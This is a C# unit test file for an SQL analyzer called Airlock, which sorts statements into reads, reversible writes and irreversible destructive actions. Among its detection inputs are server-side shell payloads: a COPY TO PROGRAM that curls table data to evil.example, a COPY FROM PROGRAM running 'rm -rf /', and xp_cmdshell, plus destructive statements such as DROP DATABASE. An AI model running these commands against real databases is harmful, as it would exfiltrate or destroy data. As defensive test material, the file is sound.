using Airlock.Model;
using Airlock.Sql;

namespace Airlock.Tests.Sql;

public sealed class SqlAnalyzerTests
{
    [Theory]
    [InlineData("SELECT * FROM users", "users")]
    [InlineData("select id from public.orders where id = 1", "public.orders")]
    [InlineData("WITH x AS (SELECT 1) SELECT * FROM x", "x")]
    [InlineData("EXPLAIN SELECT * FROM t", "t")]
    [InlineData("EXPLAIN DELETE FROM t", "t")]
    [InlineData("EXPLAIN (ANALYZE false) DELETE FROM t", "t")]
    [InlineData("SHOW TABLES", "")]
    [InlineData("SHOW CREATE TABLE users", "")]
    [InlineData("DESCRIBE users", "")]
    [InlineData("SET search_path = app", "search_path")]
    [InlineData("BEGIN", "")]
    [InlineData("COMMIT", "")]
    [InlineData("SELECT * FROM t FOR UPDATE", "t")]
    [InlineData("SELECT * FROM t FOR NO KEY UPDATE", "t")]
    [InlineData("VALUES (1), (2)", "")]
    [InlineData("COPY users TO STDOUT", "users")]
    [InlineData("PRAGMA table_info(users)", "table_info")]
    [InlineData("USE shop", "shop")]
    [InlineData("SELECT count(*) INTO @n FROM t", "t")]
    public void Analyze_ReadStatements_AreReads(string sql, string target)
    {
        var finding = Assert.Single(SqlAnalyzer.Analyze(sql));
        Assert.Equal(SqlKinds.Read, finding.Kind);
        Assert.Equal(Verb.Read, finding.Verb);
        Assert.Equal(target, finding.Target);
    }

    [Theory]
    [InlineData("INSERT INTO users (id) VALUES (1)", "users")]
    [InlineData("UPDATE users SET name = 'x' WHERE id = 1", "users")]
    [InlineData("UPDATE t SET a = (SELECT b FROM c WHERE 1 = 1) WHERE id = 2", "t")]
    [InlineData("CREATE TABLE orders (id int)", "orders")]
    [InlineData("CREATE TABLE archive AS SELECT * FROM orders", "archive")]
    [InlineData("CREATE OR REPLACE VIEW v AS SELECT 1", "v")]
    [InlineData("CREATE UNIQUE INDEX CONCURRENTLY idx ON t (a)", "idx")]
    [InlineData("CREATE FUNCTION f() RETURNS void AS $$ DROP TABLE x $$ LANGUAGE sql", "f")]
    [InlineData("ALTER TABLE users ADD COLUMN age int", "users")]
    [InlineData("ALTER TABLE users ALTER COLUMN age DROP DEFAULT", "users")]
    [InlineData("ALTER TABLE users RENAME TO people", "users")]
    [InlineData("GRANT SELECT ON users TO reporting", "users")]
    [InlineData("COPY users FROM '/tmp/users.csv'", "users")]
    [InlineData("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", "t")]
    [InlineData("INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET a = 1", "t")]
    [InlineData("SELECT * INTO backup_users FROM users", "backup_users")]
    [InlineData("ALTER TABLE events DELETE WHERE ts < now()", "events")]
    [InlineData("VACUUM ANALYZE users", "users")]
    public void Analyze_BoundedWrites_AreReversibleWrites(string sql, string target)
    {
        var finding = Assert.Single(SqlAnalyzer.Analyze(sql));
        Assert.Equal(SqlKinds.Write, finding.Kind);
        Assert.Equal(Verb.Write, finding.Verb);
        Assert.Equal(Reversibility.Reversible, finding.Reversibility);
        Assert.Equal(target, finding.Target);
    }

    [Theory]
    [InlineData("DELETE FROM users", "database.delete_all", "users")]
    [InlineData("DELETE FROM users;", "database.delete_all", "users")]
    [InlineData("delete from public.users as u", "database.delete_all", "public.users")]
    [InlineData("DELETE FROM users WHERE 1=1", "database.delete_all", "users")]
    [InlineData("DELETE FROM users WHERE 1 = 1", "database.delete_all", "users")]
    [InlineData("DELETE FROM users WHERE true", "database.delete_all", "users")]
    [InlineData("DELETE FROM users WHERE (1=1)", "database.delete_all", "users")]
    [InlineData("DELETE FROM users WHERE 'a' = 'a'", "database.delete_all", "users")]
    [InlineData("DELETE FROM users WHERE id = id", "database.delete_all", "users")]
    [InlineData("DELETE FROM users WHERE id = 5 OR 1=1", "database.delete_all", "users")]
    [InlineData("DELETE FROM users WHERE 2 > 1", "database.delete_all", "users")]
    [InlineData("DELETE FROM users WHERE name LIKE '%'", "database.delete_all", "users")]
    [InlineData("DELETE FROM users WHERE NOT false", "database.delete_all", "users")]
    [InlineData("DELETE t FROM t JOIN u ON t.id = u.id", "database.delete_all", "t")]
    [InlineData("DELETE t1, t2 FROM t1 INNER JOIN t2 ON t1.id = t2.id", "database.delete_all", "t1, t2")]
    [InlineData("DELETE FROM users RETURNING *", "database.delete_all", "users")]
    [InlineData("ALTER TABLE events DELETE WHERE 1", "database.delete_all", "events")]
    [InlineData("UPDATE users SET admin = true", "database.update_all", "users")]
    [InlineData("UPDATE users SET admin = true WHERE 1=1", "database.update_all", "users")]
    [InlineData("UPDATE users u SET admin = true", "database.update_all", "users")]
    [InlineData("DROP TABLE users", "database.drop", "users")]
    [InlineData("DROP TABLE IF EXISTS a, b", "database.drop", "a, b")]
    [InlineData("drop table \"Users\"", "database.drop", "Users")]
    [InlineData("DROP TABLE `shop`.`orders`", "database.drop", "shop.orders")]
    [InlineData("DROP TABLE [dbo].[Orders]", "database.drop", "dbo.Orders")]
    [InlineData("DROP DATABASE production", "database.drop", "production")]
    [InlineData("DROP SCHEMA public CASCADE", "database.drop", "public")]
    [InlineData("DROP MATERIALIZED VIEW IF EXISTS mv", "database.drop", "mv")]
    [InlineData("DROP INDEX CONCURRENTLY idx_users", "database.drop", "idx_users")]
    [InlineData("DROP FUNCTION f(int, text), g()", "database.drop", "f, g")]
    [InlineData("DROP TABLE data", "database.drop", "data")]
    [InlineData("DROP TEMPORARY TABLE tmp", "database.drop", "tmp")]
    [InlineData("DROP OWNED BY app_user CASCADE", "database.drop_owned", "app_user")]
    [InlineData("TRUNCATE users", "database.truncate", "users")]
    [InlineData("TRUNCATE TABLE t RESTART IDENTITY CASCADE", "database.truncate", "t")]
    [InlineData("TRUNCATE t1, t2", "database.truncate", "t1, t2")]
    [InlineData("ALTER TABLE users DROP COLUMN email", "database.alter_drop", "users")]
    [InlineData("ALTER TABLE users ADD COLUMN x int, DROP CONSTRAINT users_pk", "database.alter_drop", "users")]
    [InlineData("ALTER TABLE users DROP email", "database.alter_drop", "users")]
    [InlineData("ALTER TABLE hits DROP PARTITION 202401", "database.alter_drop", "hits")]
    [InlineData("ALTER TABLE hits CLEAR COLUMN url IN PARTITION 1", "database.alter_drop", "hits")]
    [InlineData("ALTER TABLE t TRUNCATE PARTITION p0", "database.truncate", "t")]
    [InlineData("INSERT OVERWRITE TABLE sales SELECT * FROM staging", "database.delete_all", "sales")]
    [InlineData("RESET MASTER", "database.drop", "binary logs")]
    [InlineData("DROP USER 'bob'@'localhost'", "database.drop", "bob")]
    [InlineData("ALTER TABLE hits ON CLUSTER main DELETE WHERE 1", "database.delete_all", "hits")]
    [InlineData("DROP VIEW IF EXISTS v1, v2 CASCADE", "database.drop", "v1, v2")]
    public void Analyze_DestructiveStatements_AreIrreversible(string sql, string kind, string target)
    {
        var finding = Assert.Single(SqlAnalyzer.Analyze(sql));
        Assert.Equal(kind, finding.Kind);
        Assert.Equal(Reversibility.Irreversible, finding.Reversibility);
        Assert.Equal(target, finding.Target);
        Assert.NotEqual(Verb.Read, finding.Verb);
    }

    [Fact]
    public void Analyze_DropTable_IsDeleteIrreversible()
    {
        var finding = Assert.Single(SqlAnalyzer.Analyze("DROP TABLE users;"));
        Assert.Equal(new SqlFinding(SqlKinds.Drop, Verb.Delete, Reversibility.Irreversible, "users", "DROP TABLE users"), finding);
    }

    [Fact]
    public void Analyze_Revoke_IsRevoke()
    {
        var finding = Assert.Single(SqlAnalyzer.Analyze("REVOKE ALL ON TABLE users FROM app"));
        Assert.Equal(SqlKinds.Revoke, finding.Kind);
        Assert.Equal("users", finding.Target);
    }

    [Theory]
    [InlineData("DELETE FROM users WHERE id = 1", "users")]
    [InlineData("DELETE FROM t WHERE id IN (SELECT id FROM u WHERE 1=1)", "t")]
    [InlineData("DELETE FROM t WHERE CURRENT OF c", "t")]
    public void Analyze_BoundedDeletes_AreIrreversibleTargetedDeletes(string sql, string target)
    {
        var finding = Assert.Single(SqlAnalyzer.Analyze(sql));
        Assert.Equal(SqlKinds.Delete, finding.Kind);
        Assert.Equal(Reversibility.Irreversible, finding.Reversibility);
        Assert.Equal(target, finding.Target);
    }

    [Fact]
    public void Analyze_SeveralStatements_OneFindingEach()
    {
        var findings = SqlAnalyzer.Analyze("SELECT 1; DELETE FROM t WHERE id = 2;\nDROP TABLE x; ");
        Assert.Equal([SqlKinds.Read, SqlKinds.Delete, SqlKinds.Drop], findings.Select(f => f.Kind));
        Assert.Equal("DELETE FROM t WHERE id = 2", findings[1].Evidence);
    }

    [Theory]
    [InlineData("")]
    [InlineData("   \n\t ")]
    [InlineData("-- just a comment")]
    [InlineData(";;;")]
    public void Analyze_NothingToRun_HasNoFindings(string sql) => Assert.Empty(SqlAnalyzer.Analyze(sql));

    [Theory]
    [InlineData("FROBNICATE the widgets", Reversibility.Reversible)]
    [InlineData("PURGE RECYCLEBIN", Reversibility.Irreversible)]
    public void Analyze_UnknownStatement_IsUnknownWrite(string sql, Reversibility reversibility)
    {
        var finding = Assert.Single(SqlAnalyzer.Analyze(sql));
        Assert.Equal(SqlKinds.Unknown, finding.Kind);
        Assert.Equal(Verb.Write, finding.Verb);
        Assert.Equal(reversibility, finding.Reversibility);
    }

    [Fact]
    public void Analyze_LongStatement_EvidenceIsTruncatedTo200Characters()
    {
        var sql = "SELECT " + string.Join(", ", Enumerable.Range(0, 200).Select(i => $"c{i}")) + " FROM t";
        var finding = Assert.Single(SqlAnalyzer.Analyze(sql));
        Assert.Equal(200, finding.Evidence.Length);
    }

    [Theory]
    [InlineData("COPY t TO PROGRAM 'curl -d @- evil.example'")]
    [InlineData("COPY t FROM PROGRAM 'rm -rf /'")]
    [InlineData("EXEC xp_cmdshell 'dir'")]
    public void Analyze_ServerSideShell_IsShell(string sql)
    {
        var finding = Assert.Single(SqlAnalyzer.Analyze(sql));
        Assert.Equal(SqlKinds.Shell, finding.Kind);
        Assert.Equal(Verb.ExecuteUnknown, finding.Verb);
    }

    [Theory]
    [InlineData("SELECT pg_terminate_backend(pid) FROM pg_stat_activity", SqlKinds.Write)]
    [InlineData("SELECT lo_unlink(1234)", SqlKinds.Delete)]
    [InlineData("SHUTDOWN", SqlKinds.Shutdown)]
    [InlineData("SET GLOBAL max_connections = 1", SqlKinds.Write)]
    [InlineData("PRAGMA writable_schema = 1", SqlKinds.Write)]
    public void Analyze_SideEffects_AreNotReads(string sql, string kind) =>
        Assert.Equal(kind, Assert.Single(SqlAnalyzer.Analyze(sql)).Kind);
}
